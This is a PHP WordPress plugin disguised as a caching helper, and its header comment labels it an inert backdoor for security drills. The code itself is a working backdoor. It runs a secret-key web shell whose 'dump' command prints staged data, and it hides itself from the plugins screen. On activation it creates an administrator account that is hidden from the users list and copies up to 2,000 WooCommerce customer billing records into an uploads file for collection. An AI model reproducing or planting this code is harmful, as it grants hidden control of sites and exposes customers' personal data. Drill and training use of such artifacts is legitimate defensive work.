<?php
/**
 * Plugin Name: WP Cache Helper
 * Description: Speeds up page loads with smart object caching.
 * Version: 1.0.3
 * Author: Cache Helper Team
 *
 * breachdrill scenario artifact "rogue-plugin-backdoor". A backdoor for
 * drills, inert by design: it does nothing until a drill installs and
 * activates it inside a disposable stack, makes no outbound connection, and
 * its "shell" answers only a fixed list of harmless commands instead of
 * executing input.
 */

$bd_secret = 'f3b1c9';

// Direct request to this file: the web shell.
if (!defined('ABSPATH')) {
	if (!isset($_GET['k']) || $_GET['k'] !== $bd_secret) {
		http_response_code(404);
		exit;
	}
	header('Content-Type: text/plain');
	switch (isset($_GET['cmd']) ? $_GET['cmd'] : '') {
	case 'id':
		$u = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid()) : array('name' => get_current_user());
		echo 'uid=' . (function_exists('posix_geteuid') ? posix_geteuid() : '?') . '(' . $u['name'] . ")\n";
		break;
	case 'dump':
		foreach (glob(__DIR__ . '/../../uploads/cache/objects-*.dat') as $f) {
			readfile($f);
		}
		break;
	default:
		http_response_code(400);
		echo "unknown command\n";
	}
	exit;
}

// Hide from the plugins screen.
add_filter('all_plugins', function ($plugins) {
	unset($plugins[plugin_basename(__FILE__)]);
	return $plugins;
});

// Hide the service account from the users screen.
add_action('pre_user_query', function ($q) {
	global $wpdb;
	$q->query_where .= " AND {$wpdb->users}.user_login != 'wp_cache_svc'";
});

register_activation_hook(__FILE__, function () {
	global $wpdb;
	if (!username_exists('wp_cache_svc')) {
		wp_insert_user(array(
			'user_login' => 'wp_cache_svc',
			'user_email' => 'svc@cache-helper.invalid',
			'user_pass'  => wp_generate_password(24),
			'role'       => 'administrator',
		));
	}
	// Stage customer data for collection.
	$rows = $wpdb->get_results("SELECT email, first_name, last_name, phone, address_1, city, postcode FROM {$wpdb->prefix}wc_order_addresses WHERE address_type = 'billing' LIMIT 2000", ARRAY_A);
	$dir = WP_CONTENT_DIR . '/uploads/cache';
	wp_mkdir_p($dir);
	file_put_contents($dir . '/objects-' . substr(md5(AUTH_KEY), 0, 8) . '.dat', json_encode($rows));
});
